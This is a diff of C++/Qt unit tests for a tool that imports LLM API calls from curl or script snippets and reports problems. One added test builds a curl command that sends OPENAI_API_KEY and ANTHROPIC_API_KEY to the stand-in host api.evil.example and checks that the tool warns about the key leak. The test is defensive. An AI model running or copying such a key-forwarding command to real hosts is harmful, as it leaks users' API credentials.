@@ -61,7 +61,7 @@ private Q_SLOTS:
         const QStringList lines{u"Address: https://api.example.com/v1/messages"_s,
                                 u"Protocol: Anthropic Messages"_s,
                                 u"Key: header x-api-key, from K"_s,
-                                u"Further headers: 1"_s,
+                                u"Further headers: X-A"_s,
                                 u"Model: m"_s,
                                 u"System text: 3 characters"_s,
                                 u"Messages: 1"_s,
@@ -109,8 +109,15 @@ private Q_SLOTS:
         QCOMPARE(streamed.notUnderstood.size(), 1);
         QVERIFY(streamed.notUnderstood.constFirst().contains("stream_options"_L1));
         const Imported messages = imported(u"{\"model\":\"m\",\"system\":\"S\",\"messages\":[]}"_s);
-        QCOMPARE(messages.notUnderstood.size(), 1);
-        QVERIFY(messages.notUnderstood.constFirst().contains("max_tokens"_L1));
+        QCOMPARE(messages.notUnderstood.size(), 2);
+        QVERIFY(messages.notUnderstood[0].contains("is empty"_L1));
+        QVERIFY(messages.notUnderstood[1].contains("max_tokens"_L1));
+        // What was left out was in the text.
+        const Imported elsewhere =
+            imported(u"import requests\nrequests.post('https://a.b', json={'model': 'm', 'messages': history()})"_s);
+        QCOMPARE(elsewhere.notUnderstood.size(), 1);
+        QVERIFY(elsewhere.notUnderstood.constFirst().contains("is left out"_L1));
+        QVERIFY(!elsewhere.notUnderstood.constFirst().contains(", ,"_L1));
     }
 
     void streamingCanBeSwitchedOn()
@@ -124,6 +131,40 @@ private Q_SLOTS:
             streamed.prompt.stream = true;
             QCOMPARE(boolAt(requestOf(streamed).body, "stream"), true);
         }
+    }
+
+    void aKeyForAnotherHostIsSaid()
+    {
+        const QList<Endpoint> known{
+            {.id = u"openai"_s,
+             .name = u"OpenAI"_s,
+             .baseUrl = u"https://api.openai.com/v1"_s,
+             .keyVariable = u"OPENAI_API_KEY"_s},
+            {.id = u"anthropic"_s,
+             .name = u"Anthropic"_s,
+             .baseUrl = u"https://api.anthropic.com"_s,
+             .keyVariable = u"ANTHROPIC_API_KEY"_s},
+        };
+        const QString options =
+            u"/v1/chat/completions -H \"Authorization: Bearer $OPENAI_API_KEY\" -d '"_s + chat + u'\'';
+        QVERIFY(imported(u"curl https://api.openai.com"_s + options, known).notUnderstood.isEmpty());
+        const Imported other =
+            imported(u"curl https://api.evil.example"_s + options + u" -H \"X-Other: $ANTHROPIC_API_KEY\""_s, known);
+        const QStringList sentences{
+            u"OPENAI_API_KEY is the key of “OpenAI”; here it would go to api.evil.example: check the address."_s,
+            u"ANTHROPIC_API_KEY is the key of “Anthropic”; here it would go to api.evil.example: check the address."_s};
+        QCOMPARE(other.notUnderstood, sentences);
+        QVERIFY(other.understood.contains(u"Further headers: X-Other"_s));
+    }
+
+    void whatIsToBeChangedIsSaid()
+    {
+        const Imported ollama = imported(u"curl http://localhost:11434/api/chat -d '"_s + chat + u'\'');
+        QCOMPARE(ollama.notUnderstood.size(), 1);
+        QVERIFY(ollama.notUnderstood.constFirst().contains("/v1/chat/completions"_L1));
+        const Imported site = imported(u"curl https://a.b -H 'HTTP-Referer: <YOUR_SITE_URL>' -d '"_s + chat + u'\'');
+        QVERIFY(site.endpoint->headers.isEmpty());
+        QVERIFY(site.notUnderstood.constFirst().contains("HTTP-Referer"_L1));
     }
 
     void aRequestAsItIsPrinted()
@@ -273,10 +314,9 @@ private Q_SLOTS:
     //! Each level of JSON in JSON doubles the backslashes.
     void textsInTextsDoNotMultiply()
     {
-        for (const auto &[begin, end, last] :
-             {std::tuple{u"JSON.stringify({\"a\":"_s, u"})"_s, u"\"\\\"\""_s},
-              {u"json.dumps(dict(a="_s, u"))"_s, u"'\"'"_s},
-              {u"JSON.stringify({a:`${"_s, u"}`})"_s, u"'\"'"_s}}) {
+        for (const auto &[begin, end, last] : {std::tuple{u"JSON.stringify({\"a\":"_s, u"})"_s, u"\"\\\"\""_s},
+                                               {u"json.dumps(dict(a="_s, u"))"_s, u"'\"'"_s},
+                                               {u"JSON.stringify({a:`${"_s, u"}`})"_s, u"'\"'"_s}}) {
             const QString nested = begin.repeated(40) + last + end.repeated(40);
             QVERIFY(!importText(u"const b = "_s + nested));
             QVERIFY(!importText(u"import json\nb = "_s + nested));
@@ -289,9 +329,8 @@ private Q_SLOTS:
         const QString item = u"[{'role': 'user', 'content': 'Hi'}]"_s;
         const Imported list = imported(u"import requests\nx = "_s + (item + u" + "_s).repeated(16'000) + item + post);
         QCOMPARE(list.prompt.messages.size(), 16'001);
-        const Imported text =
-            imported(u"import requests\nq = "_s + u"'ab' + "_s.repeated(100'000) + u"'c'\n"_s
-                     + u"x = [{'role': 'user', 'content': q}]"_s + post);
+        const Imported text = imported(u"import requests\nq = "_s + u"'ab' + "_s.repeated(100'000) + u"'c'\n"_s
+                                       + u"x = [{'role': 'user', 'content': q}]"_s + post);
         QCOMPARE(text.prompt.messages.constFirst().text.size(), 200'001);
         QString flat;
         for (int i = 0; i < 60'000; ++i)
@@ -299,8 +338,9 @@ private Q_SLOTS:
         flat = u"{\"model\":\"m\","_s + flat + u"\"messages\":[]}"_s;
         QVERIFY(refusal(flat).contains("4000 members"_L1));
         QVERIFY(refusal(u"curl https://a.b -d '"_s + flat + u'\'').contains("4000 members"_L1));
-        const Imported marks = imported(u"curl https://a.b -d \"{\\\"model\\\":\\\"m\\\",\\\"messages\\\":[{\\\"role\\\":\\\"user\\\",\\\"content\\\":\\\""_s
-                                        + u"$A"_s.repeated(100'000) + u"\\\"}]}\""_s);
+        const Imported marks = imported(
+            u"curl https://a.b -d \"{\\\"model\\\":\\\"m\\\",\\\"messages\\\":[{\\\"role\\\":\\\"user\\\",\\\"content\\\":\\\""_s
+            + u"$A"_s.repeated(100'000) + u"\\\"}]}\""_s);
         QCOMPARE(marks.prompt.messages.constFirst().text.size(), 500'000);
     }
 
